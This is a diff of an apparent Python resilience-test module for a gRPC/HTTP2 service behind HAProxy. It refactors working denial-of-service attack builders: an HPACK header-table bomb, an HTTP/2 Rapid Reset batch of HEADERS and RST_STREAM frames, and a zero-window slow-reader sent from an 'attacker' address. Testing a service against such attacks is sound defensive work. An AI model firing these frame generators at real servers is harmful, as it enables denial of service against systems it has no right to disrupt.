@@ -25,12 +25,12 @@ notes, when the binary is absent) with a throwaway certificate, the server with 
 from __future__ import annotations
 
 import contextlib
+import functools
 import hashlib
 import os
 import shutil
 import socket
 import ssl
-import struct
 import subprocess
 import threading
 import time
@@ -43,59 +43,55 @@ import numpy as np
 from bench_attack import (
     ATTACKER_IP,
     AUTH,
-    PREFACE,
     SERVICE,
     TLS_ENV,
     Attack,
     Ctx,
     _channel,
-    _hpack_literal,
     _infer,
     grpc_headers,
-    h2_frame,
     infer_bytes,
     loop_model,
     upload,
 )
 from bench_attack import _code as code_of
+from hpack import Encoder
 
 from splitrt.transport import splitrt_pb2 as pb
+from tests.rawh2 import (
+    INITIAL_WINDOW_SIZE,
+    PREFACE,
+    data_frame,
+    ended_streams,
+    frames,
+    grpc_fields,
+    grpc_message,
+    headers_frame,
+    rst_stream_frame,
+    settings_frame,
+    with_stream_id,
+)
 
 ROOT = Path(__file__).resolve().parents[1]
 HAPROXY_CFG = ROOT / "deploy" / "proxy" / "haproxy.cfg"
-HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
 
 
-def _hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
-    """An HPACK integer (RFC 7541 5.1) with ``first``'s high bits above the prefix."""
-    top = (1 << prefix_bits) - 1
-    if value < top:
-        return bytes([first | value])
-    out = [first | top]
-    value -= top
-    while value >= 128:
-        out.append(value % 128 + 128)
-        value //= 128
-    out.append(value)
-    return bytes(out)
-
-
-def bomb_block(path: str, authority: str, insert: bool, refs: int = 4000) -> bytes:
-    """A header block: the gRPC request's fields, then (``insert``) one 4000-byte header added to the
-    dynamic table (literal with incremental indexing), then ``refs`` one-byte references to it (index 62:
-    the newest dynamic entry)."""
-    block = grpc_headers(path, authority)
-    if insert:
-        name, value = b"x-bomb", b"b" * 4000
-        block += b"\x40" + _hpack_int(len(name), 7, 0) + name + _hpack_int(len(value), 7, 0) + value
-    return block + bytes([0x80 | 62]) * refs
+@functools.lru_cache(maxsize=16)
+def bomb_blocks(path: str, authority: str, refs: int = 4000) -> tuple[bytes, bytes]:
+    """A connection's first header block and its next ones, made by one HPACK encoder: the gRPC request's
+    fields (never indexed), then ``refs`` times one 4000-byte header. The first block adds that header to
+    the dynamic table (literal with incremental indexing) and refers to it ``refs`` times (one byte each:
+    index 62, the newest dynamic entry); the next ones only refer to it."""
+    encoder, bomb = Encoder(), ("x-bomb", "b" * 4000)
+    first = encoder.encode([*grpc_fields(path, authority), *[bomb] * (refs + 1)], huffman=False)
+    return first, encoder.encode([*grpc_fields(path, authority), *[bomb] * refs], huffman=False)
 
 
 class _Conn:
     """One raw HTTP/2 connection from ``source``, plain or TLS (ALPN h2), that answers nothing and drains
     what it is sent; ``send`` raises OSError once the peer has closed."""
 
-    def __init__(self, address: str, source: str, ca: Path | None, settings: bytes = b"") -> None:
+    def __init__(self, address: str, source: str, ca: Path | None, settings: dict[int, int] | None = None) -> None:
         host, port = address.rsplit(":", 1)
         self.goaway = False
         self.ended: set[int] = set()  # streams the peer finished (trailers) or reset
@@ -114,7 +110,7 @@ class _Conn:
             sock.connect((host, int(port)))
             if isinstance(sock, ssl.SSLSocket):
                 sock.do_handshake()
-            sock.sendall(PREFACE + h2_frame(SETTINGS, 0, 0, settings) + h2_frame(SETTINGS, 1, 0))
+            sock.sendall(PREFACE + settings_frame(settings) + settings_frame(ack=True))
         except BaseException:  # refused: never leave the socket to the garbage collector
             sock.close()
             raise
@@ -135,14 +131,10 @@ class _Conn:
                 self._buf += data
         except (BlockingIOError, ssl.SSLWantReadError, TimeoutError):
             pass
-        while len(self._buf) >= 9 and len(self._buf) >= 9 + int.from_bytes(self._buf[:3], "big"):
-            n = int.from_bytes(self._buf[:3], "big")
-            kind, flags, sid = self._buf[3], self._buf[4], int.from_bytes(self._buf[5:9], "big") & 0x7FFFFFFF
-            if kind == GOAWAY:
-                self.goaway = True
-            elif kind == RST_STREAM or (kind == HEADERS and flags & 0x1):
-                self.ended.add(sid)
-            self._buf = self._buf[9 + n :]
+        parsed, self._buf = frames(self._buf)
+        ended, goaway = ended_streams(parsed)
+        self.ended |= ended
+        self.goaway = self.goaway or goaway
 
     def close(self) -> None:
         with contextlib.suppress(OSError):
@@ -205,21 +197,27 @@ class Frames(Attack):
 
 
 def rapid_reset_batch(address: str, sid: int, n: int = 100) -> tuple[bytes, int]:
-    headers = grpc_headers(f"{SERVICE}/Infer", address)
+    headers, reset = _reset_pair(address)
     out = []
     for _ in range(n):
-        out.append(h2_frame(HEADERS, 0x4, sid, headers))  # END_HEADERS
-        out.append(h2_frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))  # CANCEL
+        out.append(with_stream_id(headers, sid))  # END_HEADERS
+        out.append(with_stream_id(reset, sid))  # CANCEL
         sid += 2
     return b"".join(out), sid
+
+
+@functools.lru_cache(maxsize=16)
+def _reset_pair(address: str) -> tuple[bytes, bytes]:
+    """One HEADERS and one RST_STREAM frame made by hyperframe, sent on every stream with its id written in."""
+    return headers_frame(1, grpc_headers(f"{SERVICE}/Infer", address)), rst_stream_frame(1)
 
 
 def hpack_bomb_batch(address: str, sid: int, n: int = 4) -> tuple[bytes, int]:
     """``n`` streams; the first of a connection (stream 1) inserts the header the others refer to."""
     out = []
     for _ in range(n):
-        block = bomb_block(f"{SERVICE}/Infer", address, insert=sid == 1)
-        out.append(h2_frame(HEADERS, 0x4 | 0x1, sid, block))  # END_HEADERS, END_STREAM
+        first, next_ = bomb_blocks(f"{SERVICE}/Infer", address)
+        out.append(headers_frame(sid, first if sid == 1 else next_, end_stream=True))
         sid += 2
     return b"".join(out), sid
 
@@ -361,17 +359,17 @@ class SlowReader(Attack):
 
     def arm(self, ctx: Ctx) -> None:
         body = pb.ProbeRequest(reply_bytes=self.reply).SerializeToString()
-        message = b"\x00" + struct.pack(">I", len(body)) + body
+        message = grpc_message(body)
         token = AUTH[0][1]
 
         def call(conn: _Conn, sid: int) -> bytes:
-            block = grpc_headers(f"{SERVICE}/Probe", ctx.server_address) + _hpack_literal("authorization", token)
-            return h2_frame(HEADERS, 0x4, sid, block) + h2_frame(0x0, 0x1, sid, message)
+            block = grpc_headers(f"{SERVICE}/Probe", ctx.server_address, (("authorization", token),))
+            return headers_frame(sid, block) + data_frame(sid, message, end_stream=True)
 
         def keep() -> None:
             while not self.stop_ev.is_set():
                 try:
-                    conn = _Conn(ctx.server_address, ATTACKER_IP, None, settings=struct.pack(">HI", 0x4, 0))
+                    conn = _Conn(ctx.server_address, ATTACKER_IP, None, settings={INITIAL_WINDOW_SIZE: 0})
                 except OSError:
                     self.stop_ev.wait(0.5)
                     continue
